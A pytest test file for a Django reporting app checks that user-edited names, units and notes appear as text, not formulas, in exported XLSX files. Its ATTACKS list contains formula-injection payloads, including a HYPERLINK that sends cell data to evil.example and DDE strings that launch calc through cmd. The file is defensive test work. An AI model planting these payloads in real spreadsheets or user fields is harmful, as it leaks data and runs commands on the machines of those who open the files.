"""Formula injection in exported XLSX: text that starts with = + - @ is never a formula.

Names, units, notes and comments are typed by users (the catalog is edited in the admin,
comments on the entry screen); spreadsheet software must show them, not run them. Checked
on the file's XML (no ``<f>`` element in any sheet) and on every text cell's first character.
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from ktxh import core, report
from ktxh.web.catalog.models import Indicator
from ktxh.web.datavalues import selectors
from ktxh.web.datavalues.models import DataValue
from ktxh.web.orgunits.models import OrgUnit

from .conftest import Login

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]
UNSAFE = ("=", "+", "-", "@")
INDICATOR = "NN.DAN_TRAU_BO"


def _poison(attack: str) -> None:
    """Every text the exports write, as a user or an administrator could set it."""
    # Saved as the admin screens save them (a bulk .update() would skip "updated at", which
    # tells the web processes that their copy of the catalog is stale).
    ind = Indicator.objects.select_related("sector", "unit").get(code=INDICATOR)
    ind.name = attack + " tên"
    ind.save()
    ind.sector.name = attack + " lĩnh vực"
    ind.sector.save()
    ind.unit.symbol = attack[:50]
    ind.unit.save()
    DataValue.objects.filter(indicator=ind).update(note=attack + " ghi chú")
    OrgUnit.objects.filter(code="300").update(name=attack + " huyện")


def _formula_cells(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets
        return [n for n in sheets if re.search(rb"<f[ >/]", zf.read(n))]


def _unsafe_texts(data: bytes) -> list[str]:
    """Text cells a spreadsheet would take as a formula once the user presses Enter in them."""
    wb = load_workbook(io.BytesIO(data))
    bad = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    bad.append(f"{ws.title}!{cell.coordinate} formula {cell.value}")
                elif isinstance(cell.value, str) and cell.value.startswith(UNSAFE):
                    bad.append(f"{ws.title}!{cell.coordinate} {cell.value!r}")
    return bad


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_writes_the_entry_form_download_without_formulas(login: Login, attack: str) -> None:
    _poison(attack)
    sector = Indicator.objects.get(code=INDICATOR).sector.code
    response = login("tckh").get(f"/nhap-lieu/300/2023/{sector}/tai-ve.xlsx")
    assert response.status_code == 200
    data = response.content
    assert _formula_cells(data) == []
    assert _unsafe_texts(data) == []
    shown = [c.value for ws in load_workbook(io.BytesIO(data)).worksheets for r in ws.iter_rows() for c in r]
    assert any(isinstance(v, str) and attack in v for v in shown)  # kept, as text


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_writes_the_report_appendix_without_formulas(attack: str) -> None:
    _poison(attack)
    unit = selectors.org_unit_at("300", date(2023, 12, 31))
    data = report.ReportData(
        catalog=selectors.stored_catalog(),
        values=selectors.report_values(org_unit=unit, year=2023),
        unit="300",
        year=2023,
        registry=core.demo_registry(),
        day=date(2023, 12, 31),
    )
    out = io.BytesIO()
    report.write_xlsx(data, out)
    xlsx = out.getvalue()
    assert _formula_cells(xlsx) == []
    assert _unsafe_texts(xlsx) == []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/sheet"))
    assert "tên".encode() in xml  # the poisoned name is there, as text
